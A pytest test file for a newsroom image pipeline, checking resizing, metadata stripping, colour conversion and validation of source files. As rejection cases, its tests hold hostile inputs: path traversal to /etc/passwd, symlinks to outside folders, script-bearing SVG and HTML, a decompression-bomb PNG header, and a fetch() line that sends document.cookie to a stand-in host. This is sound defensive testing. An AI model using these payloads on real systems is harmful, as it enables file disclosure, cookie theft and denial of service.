"""Published images: sources checked before use, variants by width and format, named by content,
encoded once, upright, in sRGB, and carrying nothing but pixels."""

from __future__ import annotations

import dataclasses
import hashlib
import io
import os
import struct
import warnings
import zlib

import pytest
from PIL import ExifTags, Image, ImageCms, PngImagePlugin

from newsroom import images

ARTIST, COPYRIGHT, COMMENT = "Nino Photographer", "IOM Georgia staff", "shot at the Sadakhlo crossing"
MB = 1_000_000


@pytest.mark.parametrize("width, expected", [
    (2000, (480, 800, 1200)),
    (1200, (480, 800, 1200)),
    (1000, (480, 800, 1000)),
    (800, (480, 800)),
    (481, (480, 481)),
    (300, (300,)),
])
def test_widths_never_upscale(width, expected):
    assert images.widths_for(width) == expected


@pytest.fixture
def content(tmp_path):
    (tmp_path / "content" / "images").mkdir(parents=True)
    return tmp_path / "content"


@pytest.fixture
def photo(content):
    path = content / "images" / "visit.jpg"
    Image.new("RGB", (1000, 750), (30, 90, 160)).save(path, "JPEG")
    return path


@pytest.fixture
def small(content):
    """A photo for tests where widths do not matter: AVIF encoding takes its time."""
    path = content / "images" / "small.jpg"
    Image.new("RGB", (500, 300), (30, 90, 160)).save(path, "JPEG")
    return path


def variants(picture, cache):
    """Each variant file of a picture: (URL, bytes)."""
    return [(url, (cache / url).read_bytes()) for url in picture.files()]


def test_a_picture_has_avif_webp_and_jpeg_variants_with_their_real_sizes(photo, tmp_path):
    cache = tmp_path / "cache"
    picture = images.picture(photo, "images/visit.jpg", cache)
    assert [source.mime for source in picture.sources] == ["image/avif", "image/webp"]
    assert picture.fallback.mime == "image/jpeg"
    assert (picture.width, picture.height) == (1000, 750)
    for url in picture.files():
        with Image.open(cache / url) as variant:
            width = int(url.rsplit("-", 1)[1].split(".")[0])
            assert variant.size == (width, round(750 * width / 1000))
            assert variant.format == {"avif": "AVIF", "webp": "WEBP", "jpg": "JPEG"}[url.rsplit(".", 1)[1]]


def test_variant_names_change_with_the_content_and_are_encoded_once(photo, tmp_path):
    cache = tmp_path / "cache"
    first = images.picture(photo, "images/visit.jpg", cache)
    stamps = {url: (cache / url).stat().st_mtime_ns for url in first.files()}
    assert images.picture(photo, "images/visit.jpg", cache) == first
    assert {url: (cache / url).stat().st_mtime_ns for url in first.files()} == stamps
    Image.new("RGB", (1000, 750), (200, 20, 20)).save(photo, "JPEG")
    assert set(images.picture(photo, "images/visit.jpg", cache).files()).isdisjoint(first.files())


def test_variants_cached_by_an_older_pipeline_are_never_reused(small, tmp_path, monkeypatch):
    cache = tmp_path / "cache"
    old_digest = hashlib.sha256(small.read_bytes()).hexdigest()[:10]  # how names were made when EXIF was kept
    current = images.picture(small, "images/small.jpg", cache)
    assert not any(old_digest in url for url in current.files())
    monkeypatch.setattr(images, "PIPELINE", images.PIPELINE + 1)
    assert set(images.picture(small, "images/small.jpg", cache).files()).isdisjoint(current.files())


def test_a_change_of_encoding_settings_renames_the_variants(small, tmp_path):
    cache = tmp_path / "cache"
    before = images.picture(small, "images/small.jpg", cache)
    sharper = images.Encoding("WEBP", "webp", "image/webp", {"quality": 90})
    after = images.picture(small, "images/small.jpg", cache, dataclasses.replace(images.PHOTO, modern=(images.AVIF, sharper)))
    assert set(after.files()).isdisjoint(before.files())


@pytest.mark.parametrize("src, stem", [
    ("images/2018/Batumi conference, day 1.jpg", "Batumi-conference-day-1"),
    ("images/2018/კონფერენცია.jpg", "photo"),
    ("images/visit.jpg", "visit"),
])
def test_variant_names_are_safe_in_a_srcset(content, tmp_path, src, stem):
    (content / src).parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (600, 400), (30, 90, 160)).save(content / src, "JPEG")
    for url in images.picture(content / src, src, tmp_path / "cache").files():
        assert url.startswith(f"images/sized/{stem}-") and " " not in url and "," not in url


def test_copy_into_puts_every_variant_in_the_output(small, tmp_path):
    cache, output = tmp_path / "cache", tmp_path / "output"
    picture = images.picture(small, "images/small.jpg", cache)
    images.copy_into(output, cache, [picture])
    assert sorted(p.relative_to(output).as_posix() for p in output.rglob("*") if p.is_file()) == sorted(picture.files())
    assert all((output / url).read_bytes() == (cache / url).read_bytes() for url in picture.files())


def test_copy_into_lets_a_failed_write_stop_the_build_and_leaves_no_partial_file(small, tmp_path, monkeypatch):
    cache, output = tmp_path / "cache", tmp_path / "output"
    picture = images.picture(small, "images/small.jpg", cache)

    def full_disk(source, target):
        target.write_bytes(b"half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(images.shutil, "copyfile", full_disk)
    with pytest.raises(OSError, match="No space left"):
        images.copy_into(output, cache, [picture])
    assert [p for p in output.rglob("*") if p.is_file()] == []


def test_a_failed_encoding_stops_the_build_and_leaves_nothing_half_written_in_the_cache(small, tmp_path, monkeypatch):
    cache = tmp_path / "cache"

    def full_disk(image, width, height, encoding, target):
        target.write_bytes(b"half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(images, "_encode", full_disk)
    with pytest.raises(OSError, match="No space left"):
        images.picture(small, "images/small.jpg", cache)
    assert [p for p in cache.rglob("*") if p.is_file()] == []


# -- no metadata in any variant ---------------------------------------------------------------------


def srgb_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def iptc_segment() -> bytes:
    """An APP13 segment as Photoshop writes it, with an IPTC by-line (the photographer)."""
    iptc = b"\x1c\x02\x50" + struct.pack(">H", len(ARTIST)) + ARTIST.encode()
    resource = b"8BIM\x04\x04\x00\x00" + struct.pack(">I", len(iptc)) + iptc
    body = b"Photoshop 3.0\x00" + resource
    return b"\xff\xed" + struct.pack(">H", len(body) + 2) + body


def exif_with_gps() -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Artist] = ARTIST
    exif[ExifTags.Base.Copyright] = COPYRIGHT
    exif[ExifTags.Base.Make] = "PhoneMaker"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)  # 0x8825
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (41.0, 18.0, 36.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (44.0, 48.0, 0.0)
    return exif


XMP = (f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
       f'<rdf:Description xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">'
       f'<dc:creator>{ARTIST}</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>').encode()


def tagged_jpeg(path) -> tuple[bytes, ...]:
    """A JPEG with all a camera and an editor write about a photo; returns what to look for in a file."""
    Image.new("RGB", (600, 360), (30, 90, 160)).save(
        path, "JPEG", exif=exif_with_gps(), xmp=XMP, comment=COMMENT, icc_profile=srgb_profile(), extra=iptc_segment())
    return (b"Exif\x00\x00", b"http://ns.adobe.com/xap/1.0/", b"Photoshop 3.0", b"8BIM", b"ICC_PROFILE",
            COMMENT.encode(), ARTIST.encode(), COPYRIGHT.encode(), b"PhoneMaker")


def tagged_png(path) -> tuple[bytes, ...]:
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", ARTIST)
    text.add_text("Description", COMMENT, zip=True)
    text.add_itxt("Copyright", COPYRIGHT, lang="en")
    Image.new("RGBA", (500, 300), (30, 90, 160, 200)).save(path, "PNG", pnginfo=text, exif=exif_with_gps(), icc_profile=srgb_profile())
    return b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"iCCP", ARTIST.encode(), COPYRIGHT.encode(), b"PhoneMaker"


@pytest.mark.parametrize("make, name, recipe", [
    (tagged_jpeg, "tagged.jpg", images.PHOTO),
    (tagged_png, "tagged.png", images.PHOTO),
    (tagged_jpeg, "tagged-logo.jpg", images.LOGO),
    (tagged_png, "tagged-logo.png", images.LOGO),
])
def test_no_variant_says_where_a_photo_was_taken_or_who_took_it(content, tmp_path, make, name, recipe):
    source, cache = content / "images" / name, tmp_path / "cache"
    marks = make(source)
    with Image.open(source) as original:
        assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the source does say where
    assert [mark for mark in marks if mark not in source.read_bytes()] == []
    for url, data in variants(images.picture(source, f"images/{name}", cache, recipe), cache):
        assert [mark for mark in (*marks, b"Exif", b"GPS", b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"iCCP") if mark in data] == [], url
        with Image.open(io.BytesIO(data)) as variant:
            assert dict(variant.getexif()) == {} and variant.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}, url
            assert not {"exif", "xmp", "icc_profile", "comment", "photoshop", "Author", "Description", "Copyright"} & set(variant.info), url
            assert not getattr(variant, "text", {}), url  # PNG text chunks


def test_even_at_its_own_width_the_fallback_is_a_new_file_not_the_original(content, tmp_path):
    source = content / "images" / "small.jpg"
    tagged_jpeg(source)
    picture = images.picture(source, "images/small.jpg", tmp_path / "cache")
    assert picture.fallback.srcset[-1][1] == 600
    assert (tmp_path / "cache" / picture.src).read_bytes() != source.read_bytes()


def oriented_photo(path):
    """Stored 300 × 200 with a red left half: turned upright (EXIF orientation 6) it is 200 × 300, red on top."""
    image = Image.new("RGB", (300, 200), (20, 40, 200))
    image.paste((220, 20, 20), (0, 0, 150, 200))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    image.save(path, "JPEG", exif=exif, quality=95)


@pytest.mark.parametrize("recipe", [images.PHOTO, images.LOGO])
def test_a_phone_photo_turned_by_its_exif_comes_out_upright(content, tmp_path, recipe):
    source, cache = content / "images" / "phone.jpg", tmp_path / "cache"
    oriented_photo(source)
    picture = images.picture(source, "images/phone.jpg", cache, recipe)
    assert (picture.width, picture.height) == (200, 300)
    for url, data in variants(picture, cache):
        with Image.open(io.BytesIO(data)) as variant:
            rgb = variant.convert("RGB")
            w, h = rgb.size
            assert h > w, url
            top, bottom = rgb.getpixel((w // 2, h // 8)), rgb.getpixel((w // 2, h * 7 // 8))
            assert top[0] > 150 and top[2] < 100 and bottom[2] > 150 and bottom[0] < 100, (url, top, bottom)


def with_swapped_primaries(profile: bytes) -> bytes:
    """An RGB profile whose red is sRGB's green, and the other way round: plainly not sRGB."""
    data, count = bytearray(profile), struct.unpack(">I", profile[128:132])[0]
    entries = {bytes(data[132 + 12 * i:136 + 12 * i]): 132 + 12 * i for i in range(count)}
    red, green = entries[b"rXYZ"], entries[b"gXYZ"]
    data[red + 4:red + 12], data[green + 4:green + 12] = data[green + 4:green + 12], data[red + 4:red + 12]
    return bytes(data)


def test_colours_in_another_profile_are_converted_to_srgb_and_the_profile_dropped(content, tmp_path):
    source, cache = content / "images" / "wide.png", tmp_path / "cache"
    Image.new("RGB", (400, 300), (255, 0, 0)).save(source, "PNG", icc_profile=with_swapped_primaries(srgb_profile()))
    picture = images.picture(source, "images/wide.png", cache)
    for url, data in variants(picture, cache):
        with Image.open(io.BytesIO(data)) as variant:
            assert "icc_profile" not in variant.info, url
            r, g, b = variant.convert("RGB").getpixel((200, 150))
            assert g > 200 and r < 60 and b < 60, (url, (r, g, b))


@pytest.mark.parametrize("name, mode, fill, expected", [
    ("bilevel.png", "1", 1, (255, 255, 255)),
    ("grey.png", "L", 100, (100, 100, 100)),
    ("grey-alpha.png", "LA", (100, 50), (100, 100, 100, 50)),
    ("sixteen-bit.png", "I;16", 257 * 116, (116, 116, 116)),
    ("palette.png", "P", 0, (0, 0, 0)),
    ("print.jpg", "CMYK", (0, 0, 0, 0), (255, 255, 255)),
    ("grey.jpg", "L", 100, (100, 100, 100)),
    ("glass.webp", "RGBA", (10, 20, 30, 100), (10, 20, 30, 100)),
])
def test_every_kind_of_pixel_comes_out_as_rgb_or_rgba(content, tmp_path, name, mode, fill, expected):
    source, cache = content / "images" / name, tmp_path / "cache"
    Image.new(mode, (300, 200), fill).save(source)
    assert images.inspect(content, f"images/{name}") == source.resolve()
    picture = images.picture(source, f"images/{name}", cache)
    for url, data in variants(picture, cache):
        with Image.open(io.BytesIO(data)) as variant:
            assert variant.mode == ("RGBA" if len(expected) == 4 else "RGB"), url
            assert all(abs(a - b) <= 3 for a, b in zip(variant.getpixel((150, 100)), expected)), (url, variant.getpixel((150, 100)))


def test_a_camera_jpeg_with_a_second_picture_inside_and_a_banner_one_pixel_high_are_fine(content, tmp_path):
    Image.new("RGB", (600, 400), (200, 0, 0)).save(content / "images/mpo.jpg", "MPO", save_all=True,
                                                   append_images=[Image.new("RGB", (300, 200), (0, 200, 0))])
    Image.new("RGB", (1500, 1), (0, 0, 0)).save(content / "images/line.png")
    for src, size in (("images/mpo.jpg", (600, 400)), ("images/line.png", (1200, 1))):
        assert images.inspect(content, src) == (content / src).resolve()
        picture = images.picture(content / src, src, tmp_path / "cache")
        assert (picture.width, picture.height) == size
        assert all(Image.open(io.BytesIO(data)).height >= 1 for _, data in variants(picture, tmp_path / "cache"))


def test_a_transparent_png_keeps_its_transparency_in_every_variant(content, tmp_path):
    source, cache = content / "images" / "mark.png", tmp_path / "cache"
    image = Image.new("RGBA", (600, 300), (0, 0, 0, 0))
    image.paste((0, 90, 160, 255), (0, 0, 300, 300))
    image.save(source, "PNG")
    picture = images.picture(source, "images/mark.png", cache, images.LOGO)
    assert [s.mime for s in picture.sources] == ["image/webp"] and picture.fallback.mime == "image/png"
    for url, data in variants(picture, cache):
        with Image.open(io.BytesIO(data)) as variant:
            rgba = variant.convert("RGBA")
            assert rgba.getpixel((rgba.width - 1, rgba.height // 2))[3] == 0, url
            assert rgba.getpixel((0, rgba.height // 2))[3] == 255, url


def test_a_logo_has_small_webp_and_png_variants_for_a_48_and_a_144_pixel_box(content, tmp_path):
    source, cache = content / "images" / "eu.jpg", tmp_path / "cache"
    Image.new("RGB", (600, 300), (0, 51, 153)).save(source, "JPEG")
    logo = images.picture(source, "images/eu.jpg", cache, images.LOGO)
    assert [(s.mime, [w for _, w in s.srcset]) for s in (*logo.sources, logo.fallback)] == [
        ("image/webp", [48, 96, 144, 288]), ("image/png", [48, 96, 144, 288])]
    assert (logo.width, logo.height) == (288, 144) and logo.src.endswith("-288.png")
    photo = images.picture(source, "images/eu.jpg", cache)
    assert set(photo.files()).isdisjoint(logo.files())


# -- inspecting a source before use -----------------------------------------------------------------


def png_header(width: int, height: int) -> bytes:
    """A PNG that declares a size and holds almost nothing: what a decompression bomb looks like."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")


def encoded(fmt: str, size=(40, 30), noise=False) -> bytes:
    image = Image.effect_noise(size, 80).convert("RGB") if noise else Image.new("RGB", size, (30, 90, 160))
    out = io.BytesIO()
    image.save(out, fmt)
    return out.getvalue()


def noisy_jpeg() -> bytes:
    return encoded("JPEG", (600, 400), noise=True)


SVG = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64
EXAMPLE = "e.g. images/2018/conference.jpg"
OUTSIDE = f"is outside content/images/; put the photo in content/images/ and give its path from content/, {EXAMPLE}"
DAMAGED = "is damaged or incomplete; copy or export it again from the original"


def write(content, files):
    for name, data in files.items():
        path = content / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if data == "folder":
            path.mkdir(exist_ok=True)
        elif data == "fifo":  # opening it to read would wait for a writer for ever
            os.mkfifo(path)
        elif isinstance(data, tuple):  # a link
            path.symlink_to(content / data[0])
        elif isinstance(data, int):  # a big file, written sparse: a JPEG's first bytes, then zeros
            with open(path, "wb") as file:
                file.write(b"\xff\xd8\xff")
                file.truncate(data)
        else:
            path.write_bytes(data.encode() if isinstance(data, str) else data)


@pytest.mark.parametrize("src, files, expected", [
    ("", {}, f"missing; give the photo's path from content/, {EXAMPLE}"),
    ("/etc/passwd", {}, f"'/etc/passwd' is an absolute path; give the path from content/, {EXAMPLE}"),
    ("C:/Photos/a.jpg", {}, f"'C:/Photos/a.jpg' is an absolute path; give the path from content/, {EXAMPLE}"),
    ("images\\2018\\a.jpg", {}, f"'images\\2018\\a.jpg' has a backslash; separate folders with /, {EXAMPLE}"),
    ("images/a.jpg\nb", {}, f"'images/a.jpg\\nb' has a control character in it; give the path on one line, {EXAMPLE}"),
    ("https://iom.int/a.jpg", {},
     f"'https://iom.int/a.jpg' is a web address; save the photo in content/images/ and give its path from content/, {EXAMPLE}"),
    ("images/../../etc/passwd", {}, f"'images/../../etc/passwd' {OUTSIDE}"),
    ("images/..", {}, f"'images/..' {OUTSIDE}"),
    ("images/2018/../visit.jpg", {}, "'images/2018/../visit.jpg' has '..' in it; write it as 'images/visit.jpg'"),
    ("releases/visit.jpg", {"releases/visit.jpg": noisy_jpeg()}, f"'releases/visit.jpg' {OUTSIDE}"),
    ("partners.yml", {}, f"'partners.yml' {OUTSIDE}"),
    ("images/secret.jpg", {"../secret.jpg": noisy_jpeg(), "images/secret.jpg": ("../secret.jpg",)},
     "'images/secret.jpg' is a link to a place outside content/images/; copy the photo itself into content/images/"),
    ("images/etc/passwd", {"images/etc": ("../../../../../../etc",)},
     "'images/etc/passwd' is a link to a place outside content/images/; copy the photo itself into content/images/"),
    ("images/2018", {"images/2018": "folder"}, f"'images/2018' is a folder; give the path of a photo in it, {EXAMPLE}"),
    ("images/pipe.jpg", {"images/pipe.jpg": "fifo"}, "'images/pipe.jpg' is not a regular file; put the photo itself in content/images/"),
    ("images/nope.jpg", {}, "'images/nope.jpg' does not exist under content/; check the spelling, or add the photo to content/images/"),
    ("images/gone.jpg", {"images/gone.jpg": ("images/deleted.jpg",)},
     "'images/gone.jpg' does not exist under content/; check the spelling, or add the photo to content/images/"),
    ("images/loop.jpg", {"images/loop.jpg": ("images/loop.jpg",)},
     "'images/loop.jpg' does not exist under content/; check the spelling, or add the photo to content/images/"),
    ("images/empty.jpg", {"images/empty.jpg": b""}, "'images/empty.jpg' is an empty file; export it as JPEG"),
    ("images/notes.jpg", {"images/notes.jpg": "Photo by Nino, 2018: conference\n"},
     "'images/notes.jpg' is a text file, not an image; export it as JPEG"),
    ("images/page.png", {"images/page.png": "<!DOCTYPE html><html><script>alert(1)</script></html>"},
     "'images/page.png' is a text file, not an image; export it as JPEG"),
    ("images/app.jpg", {"images/app.jpg": "fetch('https://example.net/?c=' + document.cookie);"},
     "'images/app.jpg' is a text file, not an image; export it as JPEG"),
    ("images/cut.jpg", {"images/cut.jpg": noisy_jpeg()[:30_000]}, f"'images/cut.jpg' {DAMAGED}"),
    ("images/cut.png", {"images/cut.png": encoded("PNG", (400, 300), noise=True)[:20_000]}, f"'images/cut.png' {DAMAGED}"),
    ("images/header.png", {"images/header.png": png_header(400, 300)[:30]}, f"'images/header.png' {DAMAGED}"),
    ("images/cut.webp", {"images/cut.webp": encoded("WEBP", (400, 300), noise=True)[:2_000]}, f"'images/cut.webp' {DAMAGED}"),
    ("images/map.svg", {"images/map.svg": SVG}, "'images/map.svg' is an SVG drawing, which can carry script; export it as JPEG"),
    ("images/map.jpg", {"images/map.jpg": SVG}, "'images/map.jpg' is an SVG drawing, which can carry script; export it as JPEG"),
    ("images/IMG_0001.heic", {"images/IMG_0001.heic": HEIC}, "'images/IMG_0001.heic' is a HEIC photo (an iPhone's format); export it as JPEG"),
    ("images/IMG_0001.jpg", {"images/IMG_0001.jpg": HEIC}, "'images/IMG_0001.jpg' is a HEIC photo (an iPhone's format); export it as JPEG"),
    ("images/a.avif", {"images/a.avif": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + b"\x00" * 64},
     "'images/a.avif' is an AVIF image; export it as JPEG"),
    ("images/a.gif", {"images/a.gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"}, "'images/a.gif' is a GIF image; export it as JPEG"),
    ("images/scan.jpg", {"images/scan.jpg": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"}, "'images/scan.jpg' is a PDF document; export it as JPEG"),
    ("images/clip.jpg", {"images/clip.jpg": b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41"},
     "'images/clip.jpg' is a video; export it as JPEG"),
    ("images/noise.jpg", {"images/noise.jpg": bytes(range(256)) * 4}, "'images/noise.jpg' is not a JPEG, PNG or WebP image; export it as JPEG"),
    ("images/big.jpg", {"images/big.jpg": 20_000_001},
     "'images/big.jpg' is 20.1 MB, more than the limit of 20 MB; export it smaller (1200 pixels wide is enough)"),
    ("images/wide.png", {"images/wide.png": png_header(10_000, 6_000)},
     "'images/wide.png' is 10000 × 6000 pixels, more than the limit of 50 megapixels; export it smaller (1200 pixels wide is enough)"),
    ("images/huge.png", {"images/huge.png": png_header(12_000, 9_000)},  # over Pillow's warning threshold
     "'images/huge.png' is 12000 × 9000 pixels, more than the limit of 50 megapixels; export it smaller (1200 pixels wide is enough)"),
    ("images/bomb.png", {"images/bomb.png": png_header(100_000, 100_000)},  # over Pillow's hard limit
     "'images/bomb.png' is over 178 megapixels, more than the limit of 50 megapixels; export it smaller (1200 pixels wide is enough)"),
])
def test_a_source_that_cannot_be_used_is_one_line_naming_it_and_the_fix(content, src, files, expected):
    write(content, files)
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # nothing leaks as a warning either
        assert images.inspect(content, src) == expected


@pytest.mark.parametrize("src, files, expected", [
    ("images/partners/eu.svg", {"images/partners/eu.svg": SVG},
     "'images/partners/eu.svg' is an SVG drawing, which can carry script; give the logo as PNG"),
    ("logos/eu.png", {},
     "'logos/eu.png' is outside content/images/; put the logo in content/images/ and give its path from content/, e.g. images/partners/eu.png"),
    ("images/partners", {"images/partners": "folder"},
     "'images/partners' is a folder; give the path of a logo in it, e.g. images/partners/eu.png"),
])
def test_a_logo_is_inspected_with_words_for_a_logo(content, src, files, expected):
    write(content, files)
    assert images.inspect(content, src, images.LOGO) == expected


def test_the_size_limits_can_be_lowered(content):
    jpeg = noisy_jpeg()
    write(content, {"images/visit.jpg": jpeg + b"\x00" * (1_234_567 - len(jpeg))})  # bytes after the image are ignored
    assert images.inspect(content, "images/visit.jpg", max_bytes=1_234_567) == (content / "images/visit.jpg").resolve()
    assert images.inspect(content, "images/visit.jpg", max_bytes=MB) == (
        "'images/visit.jpg' is 1.3 MB, more than the limit of 1 MB; export it smaller (1200 pixels wide is enough)")
    assert images.inspect(content, "images/visit.jpg", max_pixels=200_000) == (
        "'images/visit.jpg' is 600 × 400 pixels, more than the limit of 0.2 megapixels; export it smaller (1200 pixels wide is enough)")


@pytest.mark.parametrize("src, files", [
    ("images/visit.jpg", {"images/visit.jpg": noisy_jpeg()}),
    ("images/2018/visit.jpg", {"images/2018/visit.jpg": noisy_jpeg()}),
    ("./images/visit.jpg", {"images/visit.jpg": noisy_jpeg()}),
    ("images/visit.webp", {"images/visit.webp": encoded("WEBP")}),
    ("images/tiny.jpg", {"images/tiny.jpg": encoded("JPEG", (5, 3))}),
    ("images/really-a-png.jpg", {"images/really-a-png.jpg": encoded("PNG")}),  # what Pillow finds decides, not the name
])
def test_a_good_source_is_the_file_to_read(content, src, files):
    write(content, files)
    assert images.inspect(content, src) == (content / src).resolve()


def test_a_link_inside_content_images_is_followed(content):
    write(content, {"images/originals/visit.jpg": noisy_jpeg(), "images/visit.jpg": ("images/originals/visit.jpg",)})
    assert images.inspect(content, "images/visit.jpg") == (content / "images/originals/visit.jpg").resolve()


def test_inspecting_leaves_pillows_limits_and_warnings_as_they_were(content):
    write(content, {"images/huge.png": png_header(12_000, 9_000)})
    limit, filters = Image.MAX_IMAGE_PIXELS, list(warnings.filters)
    images.inspect(content, "images/huge.png")
    assert (Image.MAX_IMAGE_PIXELS, warnings.filters) == (limit, filters)
